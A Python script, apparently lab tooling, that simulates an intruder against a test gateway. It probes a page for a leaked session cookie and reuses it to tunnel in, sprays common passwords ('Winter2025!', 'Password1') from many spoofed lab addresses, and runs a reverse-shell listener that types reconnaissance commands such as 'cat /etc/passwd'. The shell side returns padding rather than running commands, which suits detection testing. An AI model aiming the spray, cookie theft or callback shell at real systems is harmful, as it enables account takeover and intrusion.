#!/usr/bin/env python3
"""intruder.py: what the lab's intruder does that the demo's does not (others.py), with ordinary HTTP clients.

  intruder.py leak COUNT FILE     asks the leaking page with http.client, one connection each; keeps a cookie it finds
  intruder.py tunnel FILE SECONDS with that cookie, a two-way tunnel at a program's pace; nobody logs in
  intruder.py spray               120 addresses of 198.18.0.0/16, in as many networks, each tries two passwords
  intruder.py lead CERT KEY       on the intruder's server: takes a call and types commands, with a person's pauses
  intruder.py shell               on the gateway: calls there and answers each command
"""
import asyncio
import concurrent.futures
import http.client
import itertools
import random
import re
import socket
import sys
import time
import urllib.parse

import work
from others import DROP, GATEWAY, NAME, context, dial, server

SHELL_PORT = 4443
AGENT = {"Host": NAME, "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"}
PASSWORDS = ("Winter2025!", "Password1")
COMMANDS = {"id": 300, "uname -a": 420, "ls -la /flash/nsconfig": 2600, "cat /etc/passwd": 1800, "ps aux": 5200,
             "netstat -rn": 1400, "ls /var/log": 900}


def post(path, body, ctx, source=None):
    """One connection, one question, as http.client asks it."""
    c = http.client.HTTPSConnection(GATEWAY, 443, timeout=10, context=ctx, source_address=source and (source, 0))
    c.request("POST", path, body, {**AGENT, "Content-Type": "application/x-www-form-urlencoded"})
    answer = c.getresponse()
    data = answer.read()
    c.close()
    return answer.status, data


def leak(count, path):
    ctx, sizes, cookie = context(), [], b""
    for _ in range(int(count)):
        _, data = post("/p/u/auth", "login", ctx)
        found = re.search(rb"sid=[0-9a-f]{64}", data)
        cookie = found.group() if found else cookie
        sizes.append(len(data))
        time.sleep(0.3)
    with open(path, "wb") as f:
        f.write(cookie)
    print("leaked answers:", sizes, "cookie:", bool(cookie))


def tunnel(path, seconds):
    user = work.Talk(GATEWAY, NAME, False)
    user.sid = open(path, "rb").read()
    user.tunnel(float(seconds), (0.005, 0.01, 0.02, 0.05))
    print("tunnel used")


def spray():
    ctx, rnd = context(), random.Random("spray")

    def attempt(word, net, name):
        form = urllib.parse.urlencode({"login": f"{name}@example.org", "passwd": word, "domain": "corp"})
        return post("/login", form, ctx, f"198.18.{net}.9")[0]

    tries = [(word, net, "".join(rnd.choices("aeimnorst", k=rnd.randint(4, 12))))
             for word, net in itertools.product(PASSWORDS, range(120))]
    with concurrent.futures.ThreadPoolExecutor(4) as hands:
        statuses = list(hands.map(attempt, *zip(*tries)))
    print("sprayed:", len(statuses), "answers, let in:", statuses.count(302))


async def type_commands(r, w):
    rnd = random.Random("lead")
    for command in COMMANDS:
        await asyncio.sleep(rnd.choice((0.9, 1.5, 2.5, 4)))
        w.write(command.encode() + b"\n")
        await w.drain()
        print(command, len(await r.readuntil(b"\0")), flush=True)
    w.close()


def lead(cert, key):
    async def listen():
        await asyncio.start_server(type_commands, "0.0.0.0", SHELL_PORT, ssl=server(cert, key))
        await asyncio.sleep(3600)
    asyncio.run(listen())


def shell():
    with dial(DROP, SHELL_PORT, context()) as s:
        while command := s.recv(4096):
            s.sendall(b"x" * COMMANDS[command.decode().strip()] + b"\0")
    print("led")


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
